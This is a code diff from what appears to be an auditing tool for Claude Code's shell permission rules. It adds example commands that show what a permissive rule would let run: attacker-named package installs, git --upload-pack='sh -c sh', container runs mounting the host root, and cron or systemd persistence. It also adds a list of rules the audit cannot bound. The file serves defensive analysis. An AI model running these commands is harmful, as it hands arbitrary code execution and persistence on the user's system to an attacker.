@@ -75,8 +75,18 @@ export const WITNESSES: readonly Witness[] = [
   w('xcrun swift /tmp/attacker.swift', 'code'),
   w('just --justfile /tmp/attacker.just', 'code'),
   w('cmake -P /tmp/attacker.cmake', 'code'),
-  // Installing a package runs its setup code.
+  // Installing a named package runs its setup code (install scripts, setup.py, a gem's extensions).
   w('pip install attacker-package', 'code'),
+  ...['npm install', 'npm i', 'yarn add', 'pnpm add', 'bun add', 'gem install'].map((i) =>
+    w(`${i} attacker-package`, 'code'),
+  ),
+  w('go install attacker.example/x@latest', 'code'),
+  w('composer require attacker/package', 'code'),
+  // Fetching from a local path runs the upload-pack command the option names.
+  ...['clone', 'fetch', 'pull'].map((sub) => w(`git ${sub} --upload-pack='sh -c sh' /tmp/x`, 'code')),
+  // Runners that run any command in the project's environment.
+  w(`bundle exec ${PAYLOAD}`, 'any-command'),
+  w(`pipenv run ${PAYLOAD}`, 'any-command'),
   // Persistence: a command scheduled or installed as a service runs later, outside any review.
   w('crontab /tmp/attacker.cron', 'code'),
   w('systemctl --user link /tmp/attacker.service', 'code'),
@@ -107,9 +117,11 @@ export const WITNESSES: readonly Witness[] = [
   // Containers and clusters.
   w('docker run -v /:/host alpine sh'),
   w('podman run -v /:/host alpine sh', 'code'),
+  // `docker-compose` and `podman-compose` (v1 binaries) are judged as `docker compose` (bashRuleReach).
   w('docker compose run --rm -v /:/host app sh', 'code'),
-  w('docker-compose run --rm -v /:/host app sh', 'code'),
-  w('docker-compose exec app sh', 'code'),
+  w('docker compose exec app sh', 'code'),
+  w('podman compose run --rm -v /:/host app sh', 'code'),
+  w('podman compose exec app sh', 'code'),
   w('docker exec -it app sh', 'code'),
   w('kubectl exec -it pod -- sh', 'code'),
   w('kubectl get secret app -o yaml'),
@@ -154,3 +166,21 @@ export const ROOT_WITNESSES: readonly Witness[] = [
   w('chmod u+s /bin/sh'),
   w('systemctl link /tmp/attacker.service', 'code'),
 ];
+
+/**
+ * Rules the analysis cannot bound, with why: what the admitted commands do depends on more than the rule
+ * (Claude Code's splitting of a compound command, what other rules let run next). Reported lower than a broad
+ * rule, never passed in silence. Keyed by the rule's first word.
+ */
+export const UNBOUNDED: ReadonlyMap<string, string> = new Map([
+  ...['for', 'while', 'until', 'if', 'case', 'select', 'function', '{', '(', '[['].map(
+    (k): [string, string] => [
+      k,
+      `admits a shell \`${k}\` compound command, whose body is shell code: what runs inside depends on how Claude Code splits compound commands, which the audit cannot bound`,
+    ],
+  ),
+  ...['chmod', 'chown', 'chgrp', 'setfacl', 'chattr'].map((p): [string, string] => [
+    p,
+    `admits \`${p}\` on any file, changing who may read, write or run it (a key made readable, a downloaded script made executable): what that opens depends on the other rules, so the audit cannot bound it`,
+  ]),
+]);
